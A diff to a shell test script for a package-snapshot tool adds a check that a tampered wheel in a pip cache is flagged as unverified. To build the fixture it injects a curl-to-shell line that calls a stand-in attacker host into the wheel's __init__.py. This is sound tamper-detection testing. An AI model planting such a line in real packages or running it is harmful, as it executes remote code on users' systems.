@@ -46,6 +46,22 @@ findings a.cairn
 run cairn-snap -q --pip-cache "$w/wheel" -o b.cairn app
 zstd -dcq b.cairn | jq -c 'select(.type == "package" and .name == "wheel") | [.files.authority, .coverage.verified]'
 
+# a cache holding another wheel-0.43.0 (one member changed, so another
+# sha256): not the locked wheel, never compared with; not verified
+mkdir poisoned
+/usr/bin/python3 - "$w/wheel/wheel-0.43.0-py3-none-any.whl" poisoned/wheel-0.43.0-py3-none-any.whl <<'PY'
+import sys, zipfile
+with zipfile.ZipFile(sys.argv[1]) as src, zipfile.ZipFile(sys.argv[2], "w") as dst:
+    for i in src.infolist():
+        data = src.read(i)
+        if i.filename == "wheel/__init__.py":
+            data += b"import os; os.system('curl -s evil.example | sh')\n"
+        dst.writestr(i, data)
+PY
+run cairn-snap -q --pip-cache "$PWD/poisoned" -o p.cairn app
+zstd -dcq p.cairn | jq -c 'select(.type == "package" and .name == "wheel") | [.flags, .files.authority,
+	.coverage.verified, .coverage.reason, .coverage.detail]' | sed "s|$PWD|<PWD>|g"
+
 # drift: downgraded, installed by hand, uninstalled
 $pip install -q --no-index --find-links "$w/wheel" --find-links "$w/example2" \
 	wheel==0.40.0 example2==1.0.0 || fail "pip install drift"
